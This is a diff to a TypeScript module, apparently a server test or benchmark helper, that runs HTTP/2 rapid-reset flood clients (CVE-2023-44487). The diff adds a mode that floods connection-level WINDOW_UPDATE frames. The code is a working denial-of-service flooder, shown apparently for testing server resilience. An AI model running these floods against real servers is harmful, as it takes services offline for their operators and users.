@@ -1,7 +1,8 @@
 /**
  * Clients that begin streams and cancel them at once (CVE-2023-44487): each connection sends HEADERS and RST_STREAM as
  * fast as its socket takes them, once it has acknowledged settings, or at once and without that, and is opened again
- * when the server ends it. In a thread of its own, so that those who measure are not late because of it.
+ * when the server ends it. In a thread of its own, so that those who measure are not late because of it. Instead of
+ * streams it can send WINDOW_UPDATE frames of the connection.
  */
 import { connect, type Socket } from 'node:net';
 import { isMainThread, parentPort, Worker, workerData } from 'node:worker_threads';
@@ -14,10 +15,12 @@ export interface Flood {
   readonly connections: number;
   /** Whether it acknowledges settings. */
   readonly isPolite: boolean;
+  /** Absent: streams. */
+  readonly sends?: 'window-updates' | undefined;
 }
 
 export interface FloodCounts {
-  /** Streams that were begun and cancelled. */
+  /** Streams that were begun and cancelled, or WINDOW_UPDATE frames. */
   readonly streams: number;
   /** Connections that the server has ended. */
   readonly ended: number;
@@ -27,11 +30,16 @@ const FRAME_HEADER_BYTES = 9;
 const SETTINGS = 4;
 const HEADERS = 1;
 const RST_STREAM = 3;
+const WINDOW_UPDATE = 8;
 const END_HEADERS = 4;
 const ACK = 1;
 const CANCEL = 8;
 /** In one write; some 64 KiB. */
 const STREAMS_PER_WRITE = 500;
+const UPDATES = Buffer.alloc(
+  STREAMS_PER_WRITE * (FRAME_HEADER_BYTES + 4),
+  frameOf({ type: WINDOW_UPDATE, flags: 0, stream: 0, payload: Buffer.from([0, 0, 0, 1]) }),
+);
 /** The end of the numbers of one connection is far. */
 const STREAM_MAX = 2 ** 31 - 2 * STREAMS_PER_WRITE;
 /** Before it comes again. */
@@ -106,6 +114,7 @@ class Flooding {
   }
 
   #pairs(from: number): Buffer {
+    if (this.#flood.sends === 'window-updates') return UPDATES;
     const reason = Buffer.from([0, 0, 0, CANCEL]);
     const frames: Buffer[] = [];
     for (let stream = from; stream < from + 2 * STREAMS_PER_WRITE; stream += 2) {
